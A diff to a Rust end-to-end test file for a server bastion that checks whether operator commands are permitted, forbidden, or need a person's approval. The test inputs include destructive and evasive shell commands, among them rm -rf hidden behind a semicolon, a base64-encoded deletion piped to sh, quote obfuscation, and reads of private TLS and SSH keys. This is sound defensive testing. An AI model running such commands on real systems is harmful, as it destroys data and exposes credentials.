@@ -1,6 +1,7 @@
 //! Commands on servers.
 
 use chaperone_e2e::client::Request;
+use chaperone_e2e::world::World;
 
 use super::{Step, member, run, world};
 
@@ -21,43 +22,41 @@ async fn operators_look() {
     run(&world, "Operator::olga", steps).await;
     // Three denials end a session, so each of these has its own.
     for (what, command, code) in [
-        ("a restart", "systemctl restart shop", "no_permit"),
-        ("behind something harmless", "df -h; rm -rf /srv/shop", "no_permit"),
-        ("in a substitution", "echo $(systemctl stop shop)", "no_permit"),
+        ("a restart", "systemctl restart shop", "forbidden"),
+        ("behind something harmless", "df -h; rm -rf /srv/shop", "forbidden"),
+        ("in a substitution", "echo $(systemctl stop shop)", "forbidden"),
         ("a key", "cat /etc/ssl/private/shop.key", "forbidden"),
         ("a program that a variable names", "c=rm; $c -rf /srv", "forbidden"),
         ("what comes out of a pipe", "echo cm0gLXJmIC8= | base64 -d | sh", "forbidden"),
         ("a download", "curl -o /tmp/x https://example.net/x", "forbidden"),
-        ("a quoted program", "\"s\"y's'temctl stop shop", "no_permit"),
-        ("a file that is written", "df -h > /srv/df.txt", "no_permit"),
+        ("a quoted program", "\"s\"y's'temctl stop shop", "forbidden"),
+        ("a file that is written", "df -h > /srv/df.txt", "forbidden"),
         ("a program that nobody knows", "./fix-it", "no_permit"),
         ("half a command", "echo \"unfinished", "undecodable"),
     ] {
         run(&world, "Operator::olga", [Step(what, on("web-1", command), code)]).await;
     }
+    privileged_commands_need_a_person(&world).await;
+    three_denials_end_the_session(&world).await;
 }
 
-#[tokio::test(flavor = "multi_thread")]
-async fn privileged_commands_need_a_person() {
-    let world = world("bastion").await;
+async fn privileged_commands_need_a_person(world: &World) {
     let steps = [
         Step("a restart", on("web-1", "sudo systemctl restart shop"), "step_up_required"),
         Step("a look", on("web-1", "uptime"), "permitted"),
         Step("what nobody can tell", on("web-1", "sudo sh -c \"$1\""), "forbidden"),
     ];
-    run(&world, "Operator::sam", steps).await;
+    run(world, "Operator::sam", steps).await;
 }
 
-#[tokio::test(flavor = "multi_thread")]
-async fn three_denials_end_the_session() {
-    let world = world("bastion").await;
+async fn three_denials_end_the_session(world: &World) {
     let steps = [
         Step("a look", on("web-1", "uptime"), "permitted"),
-        Step("a try", on("web-1", "rm -rf /srv"), "no_permit"),
+        Step("a try", on("web-1", "rm -rf /srv"), "forbidden"),
         Step("a second one", on("web-1", "cat ~/.ssh/id_ed25519"), "forbidden"),
         Step("a look", on("web-1", "uptime"), "permitted"),
         Step("a third one", on("web-1", "eval \"$x\""), "forbidden"),
         Step("a look", on("web-1", "uptime"), "forbidden"),
     ];
-    run(&world, "Operator::olga", steps).await;
+    run(world, "Operator::olga", steps).await;
 }
